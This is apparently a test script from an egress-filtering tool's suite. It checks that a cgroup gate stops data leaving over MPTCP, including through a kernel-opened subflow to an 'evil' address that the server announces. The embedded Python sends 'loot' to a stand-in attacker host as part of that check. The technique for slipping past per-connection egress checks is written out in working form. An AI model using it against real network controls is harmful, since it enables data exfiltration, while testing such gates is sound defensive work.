#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes MPTCP sockets, uses one that is older than the gate, and has the host on the other side announce an evil address for a further subflow of a connection to an allowed host
# stopped-by: connect4, egress, sock_create
# reason: protocol, destination
# kernels: all
#
# A subflow is opened by the kernel, long after the last system call.
. "$(dirname "$0")/lib.sh"
need_program ip
arena tcp/443
client ip mptcp limits set add_addr_accepted 4 subflows 4 2>/dev/null || skip "no MPTCP path manager in this kernel"
server ip mptcp limits set add_addr_accepted 4 subflows 4

cat >"$SCRATCH/serve-mptcp.py" <<'PYTHON'
import selectors, socket
held, waiting = [], selectors.DefaultSelector()
for port in 8443, 8444:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", port))
    listener.listen()
    waiting.register(listener, selectors.EVENT_READ)
print("ready", flush=True)
while True:
    for key, _ in waiting.select():
        connection, _ = key.fileobj.accept()
        connection.sendall(b"hello")
        held.append(connection)
PYTHON
spawn_in "$SERVER" python3 "$SCRATCH/serve-mptcp.py" >"$SCRATCH/mptcp"
wait_for 5 grep -q ready "$SCRATCH/mptcp" || skip "no MPTCP in this kernel"

announce() {
	server ip mptcp endpoint flush
	server ip mptcp endpoint add "$EVIL4" id "$((20 + RUNS))" signal
}
MEANWHILE=announce
# To announce is to send over the connections that were cut off, too; the kernel resets them, and no data
# of anybody is in that.
NOT_COUNTED=' reset$'

attack_by <<'PYTHON'
from attacker import *
import time

MPTCP = 262

def mptcp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP)
    sock.settimeout(0.5)
    return sock

living, fresh, before = mptcp(), mptcp(), mptcp()
living.connect((GOOD4, 8443))
living.recv(5)
before.connect((EVIL4, 8444))
before.recv(5)
ready()
with attempt("fresh"):
    fresh.connect((EVIL4, 8444))
    fresh.sendall(loot("fresh"))
with attempt("older"):
    before.sendall(loot("older"))
with attempt("new"):
    sock = mptcp()
    sock.connect((EVIL4, 8444))
    sock.sendall(loot("new"))
with attempt("living"):
    living.sendall(honest("living"))
    time.sleep(0.7) # for the subflow
PYTHON
works_once_open stolen:fresh stolen:older stolen:new 'ip4 6 192.0.2.2 EVIL4 8443' # the subflow's
gate_good() { gate_on "$CG" --allow "$GOOD4/32=tcp/8443"; }
stopped_once_open gate_good
recorded sock_create protocol
recorded 'connect4' destination
recorded 'egress|sock_destroy' destination
